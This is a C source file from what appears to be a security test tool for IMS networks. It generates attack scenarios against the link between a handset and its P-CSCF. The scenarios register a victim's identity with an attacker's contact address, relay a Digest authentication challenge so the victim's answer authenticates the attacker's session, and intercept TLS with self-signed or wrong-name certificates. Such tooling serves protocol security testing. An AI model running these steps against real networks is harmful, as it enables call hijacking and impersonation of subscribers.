/*
 * scenarios/search_edits_tls.c - single moves against TLS between UE and P-CSCF, and foreign contacts.
 *
 * Source:  threats 5 (own session, relay a challenge; S20, S22, S23), AT-41, AT-44, AT-45; RFC 2617 §3.2.2.3 (what a
 *          Digest response does not cover).
 * Knows:   the elements of scenario files; the same ones as in scenarios/attacks/AT-4*.xml.
 */
#include "scenarios/search_private.h"

#define HIS_CONTACT "&lt;sip:[2001:db8:bad::1]:5060&gt;;expires=600000"

void search_plan_contacts(SearchPlan *plan)
{
    static const char *const messages[] = { "SM1", "SM7" };
    for (size_t i = 0; i < G_N_ELEMENTS(messages); i++)
        search_plan_add(plan, messages[i], g_strdup_printf("%s: name a contact of his own", messages[i]),
                        g_strdup_printf("<edit message=\"%s\" direction=\"up\"><set-header header=\"Contact\" "
                                        "value=\"" HIS_CONTACT "\"/></edit>",
                                        messages[i]));
}

/* A REGISTER for the victim in a session of his own (AT-41t). */
static char *registration(const char *at, unsigned cseq, const char *authorization)
{
    return g_strdup_printf("<send at=\"%s\">\n"
                           "      REGISTER sip:${home} SIP/2.0\n"
                           "      Via: SIP/2.0/TLS [${address}]:5061;branch=z9hG4bK${token}\n"
                           "      Max-Forwards: 70\n"
                           "      From: &lt;${impu}&gt;;tag=${token}\n"
                           "      To: &lt;${impu}&gt;\n"
                           "      Call-ID: ${session}\n"
                           "      CSeq: %u REGISTER\n"
                           "      Contact: &lt;sip:[2001:db8:bad::1]:5061;transport=tls&gt;;expires=600000\n"
                           "      Authorization: %s\n"
                           "    </send>",
                           at, cseq, authorization);
}

/* TLS of his own to the P-CSCF; a challenge asked for in the victim's name, played to her, and her answer carried back
 * (S20). */
void search_plan_sessions(SearchPlan *plan)
{
    search_plan_add(plan, "", g_strdup("open a TLS session of his own to the P-CSCF"),
                    g_strdup("<session at=\"2s\"/>"));
    search_plan_add(plan, "", g_strdup("register as the victim in his session"),
                    registration("3s", 1,
                                 "Digest username=\"${impi}\",realm=\"${home}\",nonce=\"\","
                                 "uri=\"sip:${home}\",response=\"\""));
    search_plan_add(plan, "SM1", g_strdup("SM1: answer it with the challenge that his session was given"),
                    g_strdup("<rogue-proxy message=\"SM1\" direction=\"up\" challenge=\"own\" "
                             "list=\"ipsec-3gpp;alg=hmac-sha-1-96;spi-c=4711001;spi-s=4711002;port-c=40001;"
                             "port-s=40002\"/>"));
    search_plan_add(plan, "", g_strdup("send the victim's answer in his session"), registration("4s", 2, "${answer}"));
}

void search_plan_tls(SearchPlan *plan)
{
    search_plan_add(plan, "tcp:5061", g_strdup("drop all TCP at port 5061"), g_strdup("<drop message=\"tcp:5061\"/>"));
    search_plan_add(plan, "tcp:5061", g_strdup("end TLS on the path with a certificate that nobody issued"),
                    g_strdup("<intercept message=\"tcp:5061\" certificate=\"self-signed\"/>"));
    search_plan_add(plan, "tcp:5061", g_strdup("end TLS on the path with a certificate for another name"),
                    g_strdup("<intercept message=\"tcp:5061\" certificate=\"other-name\"/>"));
}
